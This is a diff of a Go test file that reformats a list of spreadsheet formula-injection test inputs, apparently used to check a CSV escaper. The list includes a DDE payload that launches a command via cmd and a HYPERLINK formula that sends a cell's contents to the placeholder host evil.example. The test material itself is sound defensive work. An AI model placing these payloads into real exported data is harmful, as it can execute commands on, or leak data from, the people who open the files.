@@ -16,7 +16,8 @@ import (
 // attacks are cells that a spreadsheet would run, or that hide one that it would run in another locale.
 var attacks = []string{
 	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A", `"=1+1`, `""=1`, `'=1`, " =1", "\u00a0=1", " =1",
-	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"click")`, `a;=1+1`, `a;"=1"`, `a,=1`, "a\t=1", "a\n=1", "a|=1", `x";=1`, "a; =1", ";;=1",
+	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"click")`, `a;=1+1`, `a;"=1"`, `a,=1`, "a\t=1", "a\n=1", "a|=1",
+	`x";=1`, "a; =1", ";;=1",
 	"", "'", "''", "'x", "a;'b", "plain", "a;b", "3-1", "x=y", "José;ÿ", "𝔘nicode", "a\r\nb", "-",
 }
 
